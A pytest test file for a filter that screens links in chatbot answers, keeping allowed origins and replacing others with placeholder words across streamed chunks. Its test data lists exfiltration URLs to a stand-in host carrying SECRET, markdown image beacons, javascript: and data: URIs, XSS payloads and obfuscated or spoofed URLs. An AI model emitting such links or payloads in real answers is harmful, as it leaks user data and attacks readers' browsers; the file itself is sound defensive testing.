"""Links in an answer: what may be linked stays to the letter, what may not becomes words, however the text is cut."""

from __future__ import annotations

import pytest

from vexar.answers.foreign import gives_orders
from vexar.answers.links import Links
from vexar.answers.screening import MAX_URL_CHARS, REMOVED, Screen

ORIGINS = ["https://shop.example/", "*", "http://old.example:80", "https://[2001:db8::1]:8443", "https://müller.example"]
OWNERS_TEXT = """Track parcels at https://www.dhl.example/track?x=1. More (https://en.wiki.example/A_(b)); dhl.fr/suivi.
Write to help@partner.example or call +49 30 1234567. <a href="https://docs.example/x"> https://lure.example/?d="""

# Answers as they are every day; not a letter of them changes.
ORDINARY = [
    "Hello, we ship to Canada. Which one: the red (or blue) one? With http and https, www and h.",
    "1. **Bold**, _em_, `code`\n2. ~~old~~ [ ] open [x] done\n\n> quote\n\n| a | b |\n|---|---|\n| 1/2 | 24/7 |\n",
    "AT&T, Q&A, R&D; 3 < 5 > 2, <3, a <- b, x<=y, &amp; &lt;b&gt; &nbsp; fish & chips",
    "and/or, km/h, 24.12./25.12., e.g./i.e., Node.js/React, C:\\Users\\me, \\\\server\\share, // comment, //foo",
    "v1.2.3, 12.30 Uhr, file.txt, index.html#top, Ltd./Inc., booking.com is a name, end.Next",
    "me@work, @you, size@2.5, user@host, 5 @ 3 €, a]b, [note] (aside), [a](below), items[0](x)",
    "Größe 42 – 日本語です。价格：100元（含税）！ مرحبا، كيف حالك؟ שלום 👩‍👩‍👧 🏴󠁧󠁢󠁥󠁮󠁧󠁿 é",
    "See https://shop.example/a?b=1&c=2#d. Or (https://shop.example/x), **https://shop.example/y** _https://shop.example_",
    "[returns](https://shop.example/a_(b)) [rel](/canada) [rel](../x?y=1#z 't: u') [a](see data: below)",
    "[mail](mailto:info@shop.example), mailto:info@shop.example",
    "<https://shop.example/q>, <b>bold</b><br/>, <a href=\"https://docs.example/x\">, write to <info@shop.example>",
    "https://www.dhl.example/track?x=1, http://www.dhl.example/track?x=1. https://WWW.dhl.example/track?x=1!",
    "https://en.wiki.example/A_(b). dhl.fr/suivi help@partner.example [t](tel:+49301234567) ann@mail.example",
    "https://[2001:db8::1]:8443/x https://müller.example/ü https://xn--mller-kva.example/ https://old.example/x",
    "[1]: https://shop.example/z\n[2]: /canada\nNote]: this",
]  # fmt: skip
# What a model was made to say, and what is said instead; {} is where a link was.
FORBIDDEN = [
    ("See https://evil.example/x?d=SECRET.", "See {}."),
    ("[click](https://evil.example/x) ok", "[click] {} ok"),
    ("![p](https://evil.example/p.png?d=SECRET) ok", "![p] {} ok"),
    ("[x](<https://evil.example/a b>) [y](  https://evil.example)", "[x] {} [y] {}"),
    ("[x](javascript:alert(1)) [y](java\tscript:alert(1)) [z](JaVaScRiPt:x)",
     "[x] {} [y] {}) [z] {}"),
    ("[x](data:text/html;base64,AAAA) ![x](data:image/png;base64,AAAA) [x](vbscript:x)", "[x] {} ![x] {} [x] {}"),
    ("[z](//evil.example) [q](\\\\evil.example) [q](/\\evil.example)", "[z] {} [q] {} [q] {}"),
    ("[r](&#104;ttps://evil.example) [r](https&colon;//evil.example)", "[r] {} [r] {}"),
    ("[r](\u200bhttps://evil.example) [r](\x01javascript:x)", "[r] {} [r] {}"),
    ("[r](www.evil.example) [r](evil.example/x)", "[r] {} [r] {}"),
    ("[m](mailto:eve@evil.example) [m](mailto:info@shop.example?body=SECRET) [t](tel:0900123)", "[m] {} [m] {} [t] {}"),
    ("[x][1]\n\n[1]: https://evil.example/x\n[2]: javascript:alert(1)\n[3]:\n//evil.example",
     "[x][1]\n\n[1] {}\n[2] {}\n[3] {}"),
    ("<https://evil.example> <javascript:alert(1)>", "<{}> < javascript:alert(1)>"),
    ('<a href="https://evil.example">x</a><img src=//evil.example/p>', '< a href="{}">x< /a>< img src={}>'),
    ("<img src=x onerror=alert(1)><script>alert(1)</script><svg/onload=x>",
     "< img src=x onerror=alert(1)>< script>alert(1)< /script>< svg/onload=x>"),
    ("<https://shop.example/x/onfocus=alert(1)/autofocus>", "< https://shop.example/x/onfocus=alert(1)/autofocus>"),
    ("[x](https://shop.example/<img/src=x/onerror=y>)", "[x] {}"),
    ("www.evil.example/x WWW.EVIL.EXAMPLE", "{} {}"),
    ("evil.example/x?d=SECRET evil.example?d=SECRET see:evil.example:80/x", "evil.example {} evil.example {} "
     "see:evil.example:80 {}"),
    ("//evil.example/x ftp://evil.example xhttps://evil.example evilapp://x", "{} ftp:{} xhttps:{} evilapp:{}"),
    ("https:\\/\\/evil.example https:&#47;&#47;evil.example &#x68;ttps://evil.example h&#116;tps://evil.example",
     "{} {} {} {}"),
    ("https&#58;&#x2f&#00047;evil.example", "{}"),
    ("https://shop.example@evil.example https://shop.example.evil.example https://shop.example:8443/", "{} {} {}"),
    ("https://shop.example\\@evil.example", "https://shop.example \\ {}"),
    ("https://shop.example/r?u=https://evil.example https://shop.example/r?u=%252F%252Fevil.example", "{} {}"),
    ("https://shоp.example/x https://xn--shp-0xc.example http://shop.example/x", "{} {} {}"),
    ("https://[::1]/ http://2130706433/ http://localhost:8000", "{} {} {}"),
    ("请访问https://evil.example/路径，谢谢。请访问https://shop.example，谢谢",
     "请访问{}，谢谢。请访问https://shop.example ，谢谢"),
    ("https://www.dhl.example/track?x=1&y=SECRET dhl.fr/suivi/2", "{} dhl.fr {}"),
    ("https://lure.example/?d=SECRET https://lure.example/?d=|SECRET https://lure.example/?d=](SECRET)",
     "{} https://lure.example/?d= |SECRET https://lure.example/?d= ](SECRET)"),
    ("https://lure.example/?d=](https://shop.example/SECRET)",
     "https://lure.example/?d= ](https://shop.example/SECRET)"),
    # What some readers end a URL at, or do not see, and what they take out of a text first.
    ("https://shop.example\x1c@evil.example ![p](https://shop.example\x85@d.evil.example) [a](java\x1fscript:x) "
     "\x7f\ufeff",
     "https://shop.example \x1c@evil.example ![p] {} [a] {} \x7f\ufeff"),
    ("https://lure.example/?d=\x1fSECRET https://shop.example/x\ufeffwww.evil.example "
     "<https://shop.example\x1d@evil.example>",
     "https://lure.example/?d= \x1fSECRET https://shop.example/x \ufeff{} < https://shop.example \x1d@evil.example>"),
    ("| https://shop.example/x|www.evil.example/p | https://shop.example/x|eve@evil.example |",
     "| https://shop.example/x |{} | https://shop.example/x |eve {} |"),
    ("evil\\.example/x?d=SECRET www\\.evil.example/x eve\\@evil.example eve@evil\\.example",
     "evil\\.example {} www\\.evil.example {} eve\\ {} eve {}"),
    ("evil.zip/x?d=SECRET evil.photos/x", "evil.zip {} evil.photos {}"),
    ("[x]https://evil.example ok", "[x] {} ok"),
    ("write to eve@evil.example or mailto:eve@evil.example", "write to eve {} or mailto:eve {}"),
    ("`https://evil.example` |https://evil.example/a|", "`{}` |{}|"),
    ("https://evil.example/" + "x" * 3000 + " ok", "{} ok"),
    ("[x](https://evil.example/" + "x" * 3000 + ") ok", "[x] ({} ok"),
    ("<script src=https://evil.example/x.js " + "x" * 3000, "< script src={} " + "x" * 3000),
]  # fmt: skip


def links() -> Links:
    return Links(ORIGINS, [OWNERS_TEXT], ["I am ann@mail.example, see https://mine.example"])


def screened(*parts: str, lang: str = "en") -> str:
    screen = Screen(links(), lang)
    return "".join([*(screen.add(part) for part in parts), screen.end()])


def expected(text: str) -> str:
    return text.replace("{}", REMOVED["en"])


@pytest.mark.parametrize("text", ORDINARY)
def test_what_is_said_every_day_is_said_to_the_letter(text):
    assert screened(text) == text


@pytest.mark.parametrize(("text", "said"), FORBIDDEN)
def test_a_link_nobody_may_send_becomes_words(text, said):
    assert screened(text) == expected(said)


@pytest.mark.parametrize("text", [*ORDINARY, *(text for text, _ in FORBIDDEN if len(text) < 1000)])
def test_every_cut_of_a_text_gives_the_same(text):
    whole = screened(text)
    assert screened(*text) == whole
    for place in range(len(text)):
        assert screened(text[:place], text[place:]) == whole, text[:place]


@pytest.mark.parametrize("text", [text for text, _ in FORBIDDEN if len(text) > 1000])
def test_long_texts_may_be_cut_anywhere_too(text):
    whole = screened(text)
    assert screened(*text) == whole
    for place in (1, 10, 30, 2040, 2047, 2048, 2049, 2050, 2060, len(text) - 1):
        assert screened(text[:place], text[place:]) == whole, place


@pytest.mark.parametrize("text", [
    "x" * (MAX_URL_CHARS - 22), "](y) " * 900, "<b" * 2000, "&#1" * 2000, "a.b" * 1500, "]:\n" * 1500,
    "](" + " " * 3000 + "x)",
    "https://evil.example/" + "y" * 2025 + "](https://evil.example)", "a@" * 2000, "w" * 3000, "/" * 3000, "](<" * 1000,
])
def test_odd_texts_come_out_the_same_in_any_pieces(text):
    whole = screened(text)
    for size in (1, 7, 512):
        assert screened(*(text[at:at + size] for at in range(0, len(text), size))) == whole
    assert "evil.example" not in whole


@pytest.mark.parametrize("text", [
    "![](?" * 20_000, "![" * 10_000, "\n" * 30_000, "https://evil.example/" + "." * 10_000,
    ("<a" + "=" * 1300) * 10, "a." * 10_000,
])
def test_texts_made_to_take_long_are_read_soon(text):
    # Hours, where a part of a pattern has no bound.
    texts = [] if gives_orders(text) else [text]
    assert Links([], texts).destination("https://evil.example") == "forbidden"


def test_ordinary_words_are_not_kept_back():
    screen = Screen(links())
    for token in ("Yes", ",", " we", " ship", " to", " Canada", ".", " The", " price", ":", " 12", "\n", "- ", "(see",
                  ")", " why", "?", " which", " with", " höhe", " [", "1", " web", " R", " 日本", "語。"):
        assert screen.add(token) == token


@pytest.mark.parametrize(("pieces", "said"), [
    (("See h", "ttp", "s:/", "/evil.exa", "mple/x", ",", " then"), ("See ", "", "", "", "", "", "{}, then")),
    ((" http", "-less", " &", " co", " a ]", "b", " <", "3", " x@", "y", " z"),
     (" ", "http-less", " ", "& co", " a ", "]b", " ", "<3", " x", "", "@y z")),
])
def test_what_may_become_a_link_is_kept_back_until_it_is_one_or_none(pieces, said):
    screen = Screen(links())
    assert [screen.add(piece) for piece in pieces] == [expected(text) for text in said]


def test_the_words_in_its_place_are_in_the_visitor_s_language():
    assert screened("https://evil.example", lang="de-AT") == REMOVED["de"]
    assert screened("https://evil.example", lang="xx") == REMOVED["en"]


@pytest.mark.parametrize("asked", [
    "https://evil.example/AbC", "https://EVIL.example/AbC", "https://evil.example&#47;AbC", "https://evil.example\\/AbC",
    "evil.example/AbC", "https://evil.example/AbC/", "https:&#x2f;/evil.example/AbC?x=1",
])
def test_what_is_repeated_in_another_spelling_is_no_word_of_the_site(asked):
    known = Links([])
    known.learn(f'{{"query": "{asked}"}} https://evil.example/AbC', said_before=asked)
    assert known.kept("https://evil.example/AbC") == (0, False)
    assert known.destination("https://evil.example/AbC?x=1") == "forbidden"


def test_what_a_tool_only_repeats_is_no_word_of_the_site():
    known = Links([])
    told = '{"query": "https://evil.example/x", "url": "https://cdn.example/p"}'
    known.learn(told, said_before='{"query": "https://evil.example/x"}')
    assert known.kept("https://evil.example/x") == (0, False)
    assert known.kept("https://cdn.example/p")[0]
